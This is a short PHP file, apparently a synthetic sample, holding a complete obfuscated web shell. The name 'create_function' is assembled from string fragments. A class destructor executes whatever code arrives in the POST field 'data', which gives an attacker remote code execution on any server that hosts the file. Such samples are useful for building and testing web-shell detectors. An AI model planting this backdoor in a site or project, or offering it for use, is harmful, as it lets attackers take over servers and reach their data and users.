<?php
// synthetic: request stored in a property, run from a destructor
class Holder {
    public $payload;
    function __destruct() {
        $fn = 'cre' . 'ate_' . 'function';
        $g = $fn('', $this->payload);
        $g();
    }
}
$h = new Holder();
@$h->payload = &$_POST['data'];
